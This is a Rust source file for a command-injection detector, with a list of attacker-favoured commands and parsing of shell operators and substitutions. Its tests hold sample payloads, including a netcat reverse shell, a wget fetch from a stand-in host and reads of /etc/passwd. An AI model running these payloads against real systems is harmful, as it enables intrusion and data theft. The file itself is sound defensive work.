//! Command injection payloads: would this value, spliced into a shell command, start a
//! command of its own?
//!
//! A command starts after a control operator (`;`, `|`, `&`, `&&`, `||`, a newline) or
//! inside a substitution (`$(..)`, backticks). What starts there must be a program: a
//! name from the commands attackers reach for first (recon, download, reverse shells,
//! interpreters) or an absolute path into a `bin` directory. After a separator the
//! command must also look like one (no argument, an option, a path, a redirection):
//! `dog; cat is nice` is prose, `; cat /etc/passwd` is not. `${IFS}` (a space that
//! survives filters) is an attack on its own.

use super::bytes::ByteSet;
use crate::verdict::Reason;

/// Programs whose appearance as a command is the point of an injection.
const COMMANDS: &[&[u8]] = &[
    b"id",
    b"whoami",
    b"uname",
    b"hostname",
    b"cat",
    b"tac",
    b"ls",
    b"dir",
    b"pwd",
    b"ping",
    b"nc",
    b"ncat",
    b"netcat",
    b"socat",
    b"telnet",
    b"wget",
    b"curl",
    b"rsh",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"dash",
    b"csh",
    b"tcsh",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"node",
    b"lua",
    b"echo",
    b"printf",
    b"sleep",
    b"nslookup",
    b"dig",
    b"host",
    b"ifconfig",
    b"ip",
    b"netstat",
    b"ps",
    b"kill",
    b"rm",
    b"mv",
    b"cp",
    b"chmod",
    b"chown",
    b"touch",
    b"mkdir",
    b"head",
    b"tail",
    b"more",
    b"less",
    b"grep",
    b"find",
    b"awk",
    b"sed",
    b"xargs",
    b"env",
    b"printenv",
    b"export",
    b"ssh",
    b"scp",
    b"ftp",
    b"tftp",
    b"base64",
    b"xxd",
    b"od",
    b"dd",
    b"tar",
    b"crontab",
    b"sudo",
    b"su",
    b"passwd",
    b"useradd",
    b"timeout",
    b"eval",
    b"exec",
    b"nohup",
    b"mkfifo",
    b"powershell",
    b"pwsh",
    b"cmd",
    b"certutil",
    b"bitsadmin",
    b"type",
    b"ipconfig",
    b"tasklist",
    b"systeminfo",
    b"net",
    b"wmic",
    b"reg",
    b"whoami.exe",
    b"cmd.exe",
    b"uptime",
];

/// Directories a program path may start with (a path into one of them is a program).
const BIN_DIRS: [&[u8]; 5] = [b"/bin/", b"/usr/bin/", b"/sbin/", b"/usr/sbin/", b"/usr/local/bin/"];

/// A name of at most 15 bytes and its length, packed into one integer (never 0).
const fn command_key(name: &[u8]) -> u128 {
    let mut key = (name.len() as u128) << 120;
    let mut i = 0;
    while i < name.len() {
        key |= (name[i] as u128) << (8 * i);
        i += 1;
    }
    key
}

const fn command_slot(key: u128) -> usize {
    let folded = (key as u64) ^ ((key >> 64) as u64);
    (folded.wrapping_mul(0x9e37_79b9_7f4a_7c15) >> 56) as usize
}

/// [`COMMANDS`] as an open-addressing hash table of their keys (0: empty), built at
/// compile time: one multiplication and, usually, one comparison per name read,
/// where a `match` on byte strings compares a name with every command of its length.
static COMMAND_TABLE: [u128; 256] = {
    assert!(COMMANDS.len() < 192, "the table keeps empty slots");
    let mut table = [0u128; 256];
    let mut c = 0;
    while c < COMMANDS.len() {
        assert!(!COMMANDS[c].is_empty() && COMMANDS[c].len() <= 15);
        let key = command_key(COMMANDS[c]);
        let mut slot = command_slot(key);
        while table[slot] != 0 {
            slot = (slot + 1) % 256;
        }
        table[slot] = key;
        c += 1;
    }
    table
};

/// Is `name` one of [`COMMANDS`]? ([`is_command_in`] for a name read into a buffer.)
#[cfg(test)]
fn is_command(name: &[u8]) -> bool {
    if name.is_empty() || name.len() > 15 {
        return false;
    }
    is_command_key(command_key(name))
}

/// [`is_command`] of the first `len` bytes of `buf`, whose other bytes are zero: its
/// first sixteen bytes are the key's, without a loop over the name.
fn is_command_in(buf: &[u8; 24], len: usize) -> bool {
    if len == 0 || len > 15 {
        return false;
    }
    let mut head = [0u8; 16];
    head.copy_from_slice(&buf[..16]);
    is_command_key(u128::from_le_bytes(head) | (len as u128) << 120)
}

fn is_command_key(key: u128) -> bool {
    let mut slot = command_slot(key);
    loop {
        match COMMAND_TABLE[slot] {
            0 => return false,
            k if k == key => return true,
            _ => slot = (slot + 1) % 256,
        }
    }
}

/// Bit `a << 8 | b` is set when a command or a program directory starts with the bytes
/// `a`, `b`: most words after an operator in prose (`it's`, `all`, `the`) are told
/// apart from every program by their first two bytes.
static PROGRAM_STARTS: [u64; 1024] = {
    let mut table = [0u64; 1024];
    let mut c = 0;
    while c < COMMANDS.len() + BIN_DIRS.len() {
        let name = if c < COMMANDS.len() { COMMANDS[c] } else { BIN_DIRS[c - COMMANDS.len()] };
        if name.len() >= 2 {
            let pair = (name[0] as usize) << 8 | name[1] as usize;
            table[pair >> 6] |= 1 << (pair & 63);
        }
        c += 1;
    }
    table
};

/// `bytes` is the value's summary: which operators and substitution bytes occur.
pub(crate) fn find(value: &[u8], bytes: ByteSet) -> Option<Reason> {
    let line_breaks = bytes.has(ByteSet::LINE_BREAK, || memchr::memchr2(b'\n', b'\r', value).is_some());
    let operators = line_breaks
        || bytes.has(ByteSet::SEMICOLON | ByteSet::PIPE | ByteSet::AMPERSAND, || {
            memchr::memchr3(b';', b'|', b'&', value).is_some()
        });
    let substitution = bytes.has(ByteSet::BACKTICK | ByteSet::DOLLAR, || memchr::memchr2(b'`', b'$', value).is_some());
    let found = (operators && after_operators(value, line_breaks))
        || (substitution && (in_substitution(value) || ifs_trick(value)));
    found.then_some(Reason::PayloadCommand)
}

fn is_blank(b: u8) -> bool {
    matches!(b, b' ' | b'\t')
}

/// [`NAME_BYTES`]: the shell removes the byte from a word (a quote or backslash that
/// goes on with more of the word).
const QUOTING: u8 = 1;
/// [`NAME_BYTES`]: the byte ends a command word ([`ends_word`]).
const ENDS_WORD: u8 = 2;

/// What each byte does in a program name, one lookup instead of two sets of
/// comparisons per byte.
const NAME_BYTES: [u8; 256] = {
    let mut table = [0u8; 256];
    let mut b = 0;
    while b < 256 {
        let byte = b as u8;
        if matches!(byte, b'\'' | b'"' | b'\\') {
            table[b] |= QUOTING;
        }
        if ends_word(byte) {
            table[b] |= ENDS_WORD;
        }
        b += 1;
    }
    table
};

/// Bytes that can end a command word.
const fn ends_word(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'|' | b'&' | b'<' | b'>' | b')' | b'`' | b'\'' | b'"')
}

/// Reads a program name at `i` (quotes and backslashes inside it are removed by the
/// shell: `w'h'oami`, `c\at`). Returns where the name ends if it is a program.
/// `fold_case`: Windows' `cmd` finds `WHOAMI` too; a POSIX shell runs `head`, never
/// `HEAD` (git's, in prose).
fn program_at(v: &[u8], mut i: usize, fold_case: bool) -> Option<usize> {
    let quoting = |b: u8| matches!(b, b'\'' | b'"' | b'\\');
    let fold = |b: u8| if fold_case { b.to_ascii_lowercase() } else { b };
    // Every program name is at least two bytes long, and without quoting its first two
    // bytes are those of a command or a program directory.
    let (&first, &second) = (v.get(i)?, v.get(i + 1)?);
    if !quoting(first) && !quoting(second) {
        let pair = usize::from(fold(first)) << 8 | usize::from(fold(second));
        if PROGRAM_STARTS[pair >> 6] >> (pair & 63) & 1 == 0 {
            return None;
        }
    }
    let mut buf = [0u8; 24];
    let mut len = 0;
    let start = i;
    while i < v.len() && len < buf.len() {
        let b = v[i];
        let class = NAME_BYTES[usize::from(b)];
        if class & QUOTING != 0 && i + 1 < v.len() && NAME_BYTES[usize::from(v[i + 1])] & ENDS_WORD == 0 {
            i += 1;
            continue;
        }
        if class & ENDS_WORD != 0 {
            break;
        }
        buf[len] = fold(b);
        len += 1;
        i += 1;
    }
    let name = &buf[..len];
    // Every program directory starts with `/`: most names are no path, and skip the list.
    let in_bin =
        name.first() == Some(&b'/') && BIN_DIRS.iter().any(|dir| name.starts_with(dir) && name.len() > dir.len());
    (i > start && (is_command_in(&buf, len) || in_bin)).then_some(i)
}

/// After the program name at `end`: does the rest read as a command line?
fn looks_like_command_line(v: &[u8], end: usize) -> bool {
    let mut j = end;
    while j < v.len() && is_blank(v[j]) {
        j += 1;
    }
    match v.get(j) {
        None => true,
        Some(b'-' | b'/' | b'.' | b'$' | b'|' | b'>' | b'<' | b';' | b'&' | b'`' | b'\'' | b'"' | b'\n' | b'\r')
        | Some(b'~' | b'0'..=b'9' | b'#') => true,
        Some(_) => {
            // `curl http://..`, `nc attacker 4444`, `ping -c 1 x`: a URL or a host and a port.
            let word_end = v[j..].iter().position(|&b| ends_word(b)).map_or(v.len(), |p| j + p);
            let word = &v[j..word_end];
            memchr::memmem::find(word, b"://").is_some() || word.iter().any(|&b| b == b'.' || b == b'/' || b == b'=')
        }
    }
}

/// `line_breaks`: `v` holds a `\n` or `\r`.
fn after_operators(v: &[u8], line_breaks: bool) -> bool {
    // Without line breaks, the operators are three bytes one SIMD search finds: prose
    // is skipped in strides rather than byte by byte.
    let mut i = 0;
    while i < v.len() {
        if !line_breaks {
            match memchr::memchr3(b';', b'|', b'&', &v[i..]) {
                Some(offset) => i += offset,
                None => break,
            }
        }
        let b = v[i];
        i += 1;
        if !matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r') {
            continue;
        }
        let mut j = i;
        while j < v.len() && (is_blank(v[j]) || matches!(v[j], b'|' | b'&' | b'{' | b'(' | b'!')) {
            j += 1;
        }
        if program_at(v, j, true).is_some_and(|end| looks_like_command_line(v, end)) {
            return true;
        }
        i = i.max(j);
    }
    false
}

/// `$(cmd)` and `` `cmd` ``.
fn in_substitution(v: &[u8]) -> bool {
    let letters = Letters::of(v);
    let mut i = 0;
    while i < v.len() {
        let start = match v[i] {
            b'`' if code_span_in_prose(v, i, &letters) => {
                // Skip the whole span: its closing backtick opens nothing.
                i = memchr::memchr(b'`', &v[i + 1..]).map_or(v.len(), |p| i + p + 2);
                continue;
            }
            b'`' => i + 1,
            b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) != Some(&b'(') => i + 2,
            _ => {
                i += 1;
                continue;
            }
        };
        let mut j = start;
        while j < v.len() && is_blank(v[j]) {
            j += 1;
        }
        // Substitutions are POSIX shell syntax: names are case-sensitive.
        let program = program_at(v, j, false);
        if program.is_some_and(|end| matches!(v.get(end), Some(b'`' | b')')) || looks_like_command_line(v, end)) {
            return true;
        }
        i = start.max(j);
    }
    false
}

/// Where the words of a value are, found once per value so that judging each backtick
/// stays constant-time: where the first two-letter word ends and where the last letter is.
struct Letters {
    first_word_end: Option<usize>,
    last_letter: Option<usize>,
}

impl Letters {
    fn of(v: &[u8]) -> Letters {
        Letters {
            first_word_end: v
                .windows(2)
                .position(|w| w[0].is_ascii_alphabetic() && w[1].is_ascii_alphabetic())
                .map(|p| p + 1),
            last_letter: v.iter().rposition(u8::is_ascii_alphabetic),
        }
    }
}

/// Is the backtick at `open` a Markdown code span inside a sentence (``like `cat`):``,
/// ``Display help for `ls`.``)? Text both before and after it, the span set off by a
/// space or an opening bracket, and the sentence going on after it. A payload
/// is the substitution itself, glued to data or an operator (`` `id` ``, ``x`id` ``,
/// ``; `whoami` ``).
fn code_span_in_prose(v: &[u8], open: usize, letters: &Letters) -> bool {
    let Some(len) = memchr::memchr(b'`', &v[open + 1..]) else {
        return false;
    };
    let close = open + 1 + len;
    let before = &v[..open];
    let set_off = before.last().is_some_and(|&b| matches!(b, b' ' | b'(' | b'"'));
    let words_before = letters.first_word_end.is_some_and(|end| end < open);
    // Punctuation of a sentence or a parenthetical right after it, or more words.
    let goes_on = match v.get(close + 1) {
        Some(b')' | b':' | b',' | b'.' | b'"') => true,
        Some(b' ') => letters.last_letter.is_some_and(|last| last > close),
        _ => false,
    };
    // Each run of spaces is read for the one backtick that follows it: linear in all.
    let operator_before = before.iter().rev().find(|&&b| b != b' ').is_some_and(|&b| matches!(b, b';' | b'|' | b'&'));
    set_off && words_before && goes_on && !operator_before
}

/// `cat${IFS}/etc/passwd`, `$IFS$9`.
fn ifs_trick(v: &[u8]) -> bool {
    // memchr, not memmem: building a substring searcher costs more than a short value.
    memchr::memchr_iter(b'$', v).any(|i| {
        let rest = &v[i + 1..];
        rest.starts_with(b"{IFS}") || rest.starts_with(b"IFS$")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks() {
        for v in [
            "127.0.0.1; cat /etc/passwd",
            "x | id",
            "a && whoami",
            "$(whoami)",
            "`id`",
            "foo\nwget http://evil.example/x.sh",
            ";w'h'oami",
            "|| /bin/sh -i",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "cat${IFS}/etc/passwd",
            "& ping -n 10 127.0.0.1 &",
            "name`id`",
            "x `id`",
            "; `whoami` now",
            "`cat /etc/passwd` please",
        ] {
            assert!(find(v.as_bytes(), ByteSet::of(v.as_bytes(), true)).is_some(), "missed {v:?}");
        }
    }

    /// The hash table and the two-byte filter know every command and nothing else.
    #[test]
    fn command_table_holds_exactly_the_commands() {
        for &name in COMMANDS {
            assert!(is_command(name), "{:?}", String::from_utf8_lossy(name));
            let upper = name.to_ascii_uppercase();
            assert_eq!(program_at(&upper, 0, true), Some(name.len()));
            assert_eq!(program_at(&upper, 0, false), None);
            for near in
                [&name[..name.len() - 1], &[name, b"x"].concat(), &[name, b"\0"].concat(), &[b"x", name].concat()]
            {
                assert!(!is_command(near) || COMMANDS.contains(&near), "{:?}", String::from_utf8_lossy(near));
                // Read in place, the name is looked up by the same key.
                assert_eq!(
                    program_at(near, 0, false).is_some(),
                    is_command(near),
                    "{:?}",
                    String::from_utf8_lossy(near)
                );
            }
        }
        assert!(!is_command(b"") && !is_command(b"aaaaaaaaaaaaaaaaaaaa"));
        assert_eq!(program_at(b"w'h'oami x", 0, true), Some(8));
        assert_eq!(program_at(b"/usr/local/bin/x", 0, false), Some(16));
        assert_eq!(program_at(b"it's", 0, true), None);
    }

    #[test]
    fn prose() {
        for v in [
            "Tom & Jerry",
            "I have a dog; cat is also nice",
            "salt & pepper; ping me later",
            "use the `map` function",
            "rock | roll",
            "R&D department",
            "$(5) off",
            "Display a file's content from an archive to `stdout` (like `cat`):",
            "Execute the `ls` program literally, even if an `ls` alias exists:",
            "View logs and follow new output (like `tail --follow`):",
            "Inspect colorized output from another command (e.g., `ls`), then quit",
            "Reset a file to `HEAD`",
        ] {
            assert!(find(v.as_bytes(), ByteSet::of(v.as_bytes(), true)).is_none(), "flagged {v:?}");
        }
    }
}
